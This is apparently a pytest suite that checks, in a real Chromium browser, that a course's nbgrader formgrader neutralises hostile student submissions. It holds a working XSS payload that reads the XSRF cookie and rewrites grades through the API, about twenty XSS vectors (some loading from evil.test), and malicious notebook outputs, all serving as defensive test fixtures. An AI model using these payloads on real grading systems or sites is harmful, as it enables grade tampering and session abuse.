"""A real formgrader in a real browser: what students wrote does nothing there, and what a person needs stands beside it."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import nbformat
import pytest
from class_of_02 import NAME, ROOT, WORDS, code, explained, graded, handed_in, png, text

from benchmarks.jupyterlab import CHROMIUM, FLAGS
from course_lib.grading.book import formgrader

pytestmark = pytest.mark.heavy

if not shutil.which(CHROMIUM) and not os.environ.get("COURSE_CI"):
    pytest.skip("no /usr/bin/chromium here: apt-get install chromium", allow_module_level=True)

RAISE = """Because.

<script>
window.addEventListener("load", async () => {
  const xsrf = document.cookie.match(/_xsrf=([^;]+)/)[1];
  const grades = await (await fetch(base_url + "/api/grades?submission_id=" + submission_id)).json();
  for (const grade of grades)
    await fetch(base_url + "/api/grade/" + grade.id, {
      method: "PUT", headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
      body: JSON.stringify({manual_score: 26 / grades.length, extra_credit: 0})});
  window.hit = "raised";
});
</script>
"""
# Each would set window.hit, load something from evil.test or leave the page: at once, or when it is clicked.
HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 2'>",
    "<svg onload='window.hit = 3'><script>window.hit = 3</script></svg>",
    "[click](javascript:window.hit=4) [click][there] <javascript:window.hit=4>\n\n[there]: javascript:window.hit=4",
    "<a href='java&#115;cript:window.hit=5'>click</a> [click](&#106;avascript:window.hit=5) [c](java\tscript:window.hit=5)",
    "<iframe srcdoc='<script>parent.hit = 6</script>'></iframe><object data='//evil.test'></object>",
    "<meta http-equiv='refresh' content='0; url=//evil.test/7'>",
    "<base href='//evil.test/'>",
    "<form action='//evil.test/9'><button autofocus onfocus='window.hit = 9'>click</button></form>",
    "![far](https://evil.test/10.png) <img src='//evil.test/10'> <video src='//evil.test/10' autoplay></video>",
    "<link rel=stylesheet href='//evil.test/11'><style>* { background: url(//evil.test/11) }</style>",
    "<p style='background: url(//evil.test/12); position: fixed; inset: 0'>over it</p>",
    "$\\require{html}\\href{javascript:window.hit=13}{x}$ \\\\[ \\unicode{x} \\\\]",
    "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE0PC9zY3JpcHQ+) <a href='/formgrader?path=/tmp'>config</a>",
    "```mermaid\ngraph TD\nA[\"<img src=x onerror='window.hit = 15'>\"]\n```",
    "</div></div></body><script>window.hit = 16</script>",
    "<details ontoggle='window.hit = 17' open>x</details><input autofocus onfocus='window.hit = 17'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=18&gt;'>",
    "    <div>\n\n<script>window.hit = 19</script>\n\n*a*",
    "<noscript><p title='</noscript><script>window.hit = 20</script>'>",
]
NAUGHTY = {"data": {"text/html": "<script>window.hit = 30</script>", "application/javascript": "window.hit = 31"}}
OUTPUTS = [
    {"output_type": "display_data", "metadata": {}, **NAUGHTY},
    {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": "<svg onload='window.hit = 32'/>"}},
    {"output_type": "display_data", "metadata": {}, "data": {"image/png": "x'\"><script>window.hit = 33</script>"}},
    {"output_type": "stream", "name": "stdout", "text": "printed <script>window.hit = 34</script>"},
    {"output_type": "error", "ename": "<script>window.hit = 35</script>", "evalue": "", "traceback": ["<b>"]},
]


@pytest.fixture(scope="module")
def grades(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    given = folder / "in"
    handed_in(given, "eve", code("filter_l1 = 2"), explained(RAISE))
    handed_in(given, "joe", *map(text, HOSTILE), explained(HOSTILE[0]))
    raw = {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": "<script>window.hit = 40</script>"}
    own = text("My own notes <script>window.hit = 41</script>", metadata={"tags": ["<script>"]})
    mine = code("# my own code <script>window.hit = 42</script>\nx = 3", outputs=OUTPUTS)
    handed_in(given, "own", own, raw, mine, code("filter_l1 = 1"))
    attached = {"attachments": {"a b.png": {"image/png": png()}, "evil.svg": {"image/svg+xml": "PHN2Zy8+"}}}
    handed_in(
        given,
        "pat",
        explained("See ![mine](attachment:a%20b.png) ![no](attachment:gone.png) ![](attachment:evil.svg)", **attached),
    )
    handed_in(given, "sue", code("filter_l1 = 1"))
    graded(given, folder / "grades")
    return folder / "grades"


@pytest.fixture(scope="module")
def desk(grades, tmp_path_factory):
    """Start formgrader as `course formgrader` does; yield its address."""
    home = tmp_path_factory.mktemp("home")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    options = [
        "--no-browser",
        "--allow-root",
        f"--ServerApp.port={port}",
        "--ServerApp.ip=127.0.0.1",
        "--ServerApp.port_retries=0",
    ]
    line = formgrader.command(grades, [*options, "--IdentityProvider.token=secret", f"--LabApp.workspaces_dir={home}"])
    folders = {name: str(home) for name in ("HOME", "JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR")}
    environment = formgrader.environment(os.environ | folders | {"PYTHONPATH": str(ROOT)})
    log = (home / "log").open("w")
    server = subprocess.Popen(line, cwd=grades, stdout=log, stderr=log, env=environment)
    try:
        for _ in range(240):
            time.sleep(0.5)
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token=secret", timeout=5)
                break
            except OSError:
                assert server.poll() is None, (home / "log").read_text()[-2000:]
        yield f"http://127.0.0.1:{port}"
    finally:
        server.terminate()
        server.wait(20)
        log.close()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser, desk):
    """Return a page that is logged in, reaches nothing but the desk, and keeps where it wanted to."""
    page = browser.new_context().new_page()
    page.wanted = []

    def only_the_desk(route):
        if route.request.url.startswith((desk, "data:", "blob:", "file:")):
            return route.continue_()
        page.wanted.append(route.request.url)
        return route.abort()

    page.route("**/*", only_the_desk)
    page.goto(f"{desk}/formgrader/gradebook?token=secret")
    yield page
    page.context.close()


def database(grades):
    from nbgrader.api import Gradebook

    return Gradebook(f"sqlite:///{grades}/gradebook.db")


def submission(grades, student):
    with database(grades) as book:
        return book.find_submission_notebook(NAME, NAME, student).id


def shown(page, desk, grades, student):
    """Open a submission, wait until its scores are there, and return what a hostile cell did."""
    page.goto(f"{desk}/formgrader/submissions/{submission(grades, student)}/")
    page.wait_for_function("() => document.querySelectorAll('input.score').length && window.jQuery")
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(200)
    return page.evaluate("window.hit")


@contextlib.contextmanager
def uncleaned(grades, student, source):
    """Put words into a graded notebook as they were before they were cleaned, for a while."""
    path = grades / "autograded" / student / NAME / f"{NAME}.ipynb"
    before = path.read_text()
    book = nbformat.reads(before, 4)
    next(
        cell for cell in book.cells if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == WORDS
    ).source = source
    path.write_text(nbformat.writes(book))
    yield
    path.write_text(before)


def total(grades, student):
    with database(grades) as book:
        return book.find_submission(NAME, student).score


def test_a_script_in_an_answer_does_not_raise_its_own_grade_and_would_if_it_were_not_cleaned(page, desk, grades):
    assert total(grades, "eve") == 2
    assert shown(page, desk, grades, "eve") is None and total(grades, "eve") == 2
    assert page.get_by_text("Because.").is_visible()
    with uncleaned(grades, "eve", RAISE):
        page.goto(f"{desk}/formgrader/submissions/{submission(grades, 'eve')}/")
        page.wait_for_function("() => window.hit == 'raised'")
        assert total(grades, "eve") == pytest.approx(26)  # so the attack is real, and it is the cleaning that stops it
    with database(grades) as book:
        for grade in book.find_submission_notebook(NAME, NAME, "eve").grades:
            grade.manual_score, grade.needs_manual_grade = None, grade.name == WORDS
        book.db.commit()


def elsewhere(page):
    return [
        url for url in page.wanted if not url.startswith("https://cdnjs.cloudflare.com/")
    ]  # nbconvert's own pages load it


# Everything but the ways to other lessons, the map and the glossary, which stand around each lesson.
CLICK = """() => {
  for (const e of document.querySelectorAll('.rendered_html *'))
    if (!/(\\d\\d_\\w+\\.ipynb|README\\.md|GLOSSARY\\.md)$/.test(e.href ?? '')) e.click();
}"""


def test_nothing_that_a_student_writes_runs_loads_or_leads_away(page, desk, grades):
    assert shown(page, desk, grades, "joe") is None
    here = page.url
    assert page.get_by_text("window.hit").count() + page.get_by_text("click").count() > 4  # so they are all there
    page.evaluate(CLICK)
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None and page.url.split("#")[0] == here and elsewhere(page) == []


def test_without_the_cleaning_the_same_words_do_run(page, desk, grades):
    with uncleaned(grades, "joe", HOSTILE[1]):
        assert shown(page, desk, grades, "joe") == 2


def test_the_page_that_is_opened_first_shows_the_submissions_to_a_browser_that_has_no_cookie_yet(browser, desk, grades):
    page = browser.new_context().new_page()
    page.goto(f"{desk}{formgrader.place(grades)}?token=secret")
    assert formgrader.place(grades).endswith(f"/{NAME}/{NAME}")
    page.locator("tbody tr td").first.wait_for(timeout=20_000)
    page.get_by_role("link", name="Submission #1").or_(page.locator("tbody a").first).first.wait_for(timeout=20_000)
    page.context.close()


def test_a_students_own_cells_are_shown_and_nothing_in_them_runs(page, desk, grades):
    assert shown(page, desk, grades, "own") is None and elsewhere(page) == []
    for words in ("My own notes", "my own code", "printed <script>"):
        assert page.get_by_text(words).first.is_visible()


def test_a_pasted_picture_is_shown_in_formgrader(page, desk, grades):
    shown(page, desk, grades, "pat")
    assert page.locator(f"img[src='data:image/png;base64,{png()}']").evaluate("e => e.naturalWidth") == 6
    assert page.get_by_text("a picture that is not shown").count() == 2


def test_the_rubric_stands_folded_beside_the_answer(page, desk, grades):
    shown(page, desk, grades, "eve")
    fold = page.locator("details", has_text="Rubric and samples")
    assert fold.count() == 1 and not page.get_by_text("Sample answer, 2 points").is_visible()
    look = "e => [getComputedStyle(e).display, getComputedStyle(e).cursor]"
    assert fold.locator("summary").evaluate(look) == ["list-item", "pointer"]  # else nothing shows that it opens
    fold.locator("summary").click()
    assert page.get_by_text("Sample answer, 2 points").is_visible()


def test_formgrader_opens_where_there_is_something_to_grade(page, desk, grades):
    assert formgrader.place(grades) == f"/formgrader/gradebook/{NAME}/{NAME}"
    page.goto(f"{desk}{formgrader.place(grades)}")
    page.get_by_text("Submission #1", exact=True).wait_for()
    # what the address without a path leads to, as the browser is opened
    assert formgrader.command(grades)[-1].endswith(formgrader.place(grades))


def test_pages_are_served_with_a_policy_and_seeds_are_not(page, desk, grades):
    response = page.goto(f"{desk}/formgrader/gradebook")
    policy = response.headers["content-security-policy"]
    assert "object-src 'none'" in policy and "base-uri 'none'" in policy and "connect-src 'self'" in policy
    text = "".join(path.read_text(errors="replace") for path in grades.rglob("*.json"))
    assert not list(grades.rglob("seeds.json")) and '"seed": 7' not in text


def test_nbgraders_feedback_has_comments_and_pictures_and_neither_rubric_nor_script(page, desk, grades):
    with database(grades) as book:
        book.find_comment(WORDS, NAME, NAME, "pat").manual_comment = "Well seen."
        book.db.commit()
    environment = formgrader.environment(os.environ | {"PYTHONPATH": str(ROOT)})
    ours = grades / "feedback" / "pat" / NAME / f"{NAME}.html"
    before = ours.read_text()
    line = [sys.executable, "-m", "nbgrader", "generate_feedback", NAME]
    for more in ([], ["--student", "pat"]):  # the second time it does not skip what is there
        subprocess.run([*line, *more], cwd=grades, env=environment, check=True, capture_output=True, timeout=300)
    made = Path(grades, "feedback-notebooks", "pat", NAME, f"{NAME}.html")
    assert "Well seen." in made.read_text() and png() in made.read_text() and "Sample answer" not in made.read_text()
    assert ours.read_text() == before
    for student in ("eve", "own", "joe"):
        page.goto((grades / "feedback-notebooks" / student / NAME / f"{NAME}.html").as_uri())
        page.wait_for_load_state("domcontentloaded")
        assert page.evaluate("window.hit") is None and elsewhere(page) == []


def test_a_comment_in_formgrader_reaches_our_page(page, desk, grades):
    shown(page, desk, grades, "own")
    comment = page.locator(f"[id='{WORDS}-comment']")
    comment.fill("Say <b>more</b>.")
    comment.blur()
    page.locator(".comment-saved").first.wait_for(state="attached")
    page.wait_for_load_state("networkidle")
    graded(grades.parent / "in", grades)
    written = (grades / "feedback" / "own" / NAME / f"{NAME}.html").read_text()
    assert "Say &lt;b&gt;more&lt;/b&gt;." in written and "Content-Security-Policy" in written


def test_our_pages_show_a_pasted_picture_and_run_nothing(page, desk, grades):
    for student in ("eve", "pat", "joe"):
        page.goto((grades / "feedback" / student / NAME / f"{NAME}.html").as_uri())
        assert page.evaluate("window.hit") is None and elsewhere(page) == []
    page.goto((grades / "feedback" / "pat" / NAME / f"{NAME}.html").as_uri())
    assert page.locator("img").first.evaluate("e => e.naturalWidth") == 6


def test_a_folder_that_holds_no_grades_is_refused_in_one_sentence(tmp_path):
    from course_lib.errors import CourseError

    with pytest.raises(CourseError, match="is no folder of grades"):
        formgrader.command(tmp_path)


def test_the_json_says_what_waits(grades):
    rows = {row["student"]: row["waits"] for row in json.loads((grades / f"{NAME}.json").read_text())}
    assert rows == {
        "pat": True,
        "eve": True,
        "joe": True,
        "own": True,
        "sue": False,
    }  # own: words outside their cell, perhaps
    assert re.search(r"waits for a person", (grades / f"{NAME}.html").read_text())
